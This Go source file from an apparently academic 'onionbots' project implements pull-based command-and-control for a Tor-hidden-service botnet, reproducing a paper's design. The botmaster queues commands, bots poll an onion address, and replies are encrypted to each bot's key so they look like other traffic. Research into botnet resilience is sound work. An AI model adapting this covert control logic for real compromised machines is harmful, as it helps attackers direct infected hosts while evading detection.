package core

import (
	"time"

	"onionbots/internal/botcrypto"
)

// Section IV-A: "command transmissions can be pull-based (bots make
// periodic queries to the C&C) or push-based...". This file implements
// the pull side: the botmaster queues commands per bot (or for
// everyone), and bots that poll collect what is pending. The paper's
// trade-off — aggressive polling speeds propagation but makes the bots
// chattier — falls out of the PollInterval configuration.

// QueueFor enqueues a command for one registered bot, delivered the
// next time that bot polls.
func (m *Botmaster) QueueFor(rec *BotRecord, cmd *Command) {
	m.queues[rec.ID()] = append(m.queues[rec.ID()], cmd)
}

// QueueForAll enqueues a command for every currently registered bot.
func (m *Botmaster) QueueForAll(cmd *Command) {
	for _, rec := range m.Records() {
		m.QueueFor(rec, cmd)
	}
}

// PendingFor reports the queue depth for a bot.
func (m *Botmaster) PendingFor(rec *BotRecord) int { return len(m.queues[rec.ID()]) }

// handlePoll answers a bot's poll: every queued command is sent back on
// the polling connection, sealed to the bot's K_B so the reply is
// indistinguishable from any other traffic.
func (m *Botmaster) handlePoll(conn connSender, rep *Report) {
	// Identify the poller by the K_B it proves knowledge of: the poll
	// carries {K_B}_PK_CC exactly like a rally report.
	kb, err := botcrypto.OpenWithPrivate(m.enc.Priv, rep.SealedKB)
	if err != nil {
		return
	}
	rec := &BotRecord{KB: kb}
	id := rec.ID()
	queued := m.queues[id]
	if len(queued) == 0 {
		return
	}
	delete(m.queues, id)
	// Reuse the registered record's cached session when the poller has
	// rallied before; unknown pollers pay the one-shot derivation.
	sk := rec.sealKey()
	if reg, ok := m.registry[id]; ok {
		sk = reg.sealKey()
	}
	for _, cmd := range queued {
		sealed, err := sk.Seal(cmd.Encode(), m.drbg)
		if err != nil {
			continue
		}
		_ = conn.Send(sealed)
	}
}

// connSender abstracts the reply channel for tests.
type connSender interface {
	Send([]byte) error
}

// Poll makes the bot query the C&C for pending commands. Replies arrive
// asynchronously on the polling connection and are handled like any
// directed command (sealed to K_B). Returns without error when there is
// no C&C configured.
func (b *Bot) Poll() error {
	if b.ccOnion == "" || !b.alive {
		return nil
	}
	sealedKB, err := botcrypto.SealToPublic(b.masterEncPub, b.kb, b.drbg)
	if err != nil {
		return err
	}
	conn, err := b.proxy.Dial(b.ccOnion)
	if err != nil {
		return err
	}
	conn.SetHandler(func(msg []byte) {
		// Pull replies are commands sealed directly to K_B.
		if inner, err := b.kbSeal.Open(msg); err == nil {
			b.handleDirectedPlain(inner)
		}
	})
	rep := &Report{Onion: b.Onion(), SealedKB: sealedKB}
	env := &Envelope{Type: MsgPoll, MsgID: b.newMsgID(), Payload: rep.Encode()}
	return b.sendEnvelope(conn, env)
}

// StartPolling schedules periodic polls (pull-based waiting stage).
// Polls batch onto one shared wheel event per (interval, phase), like
// the other per-bot maintenance timers (see Bot.BatchTick).
func (b *Bot) StartPolling(every time.Duration) {
	b.net.Scheduler().EveryBatched(every, b, botTickPoll)
}
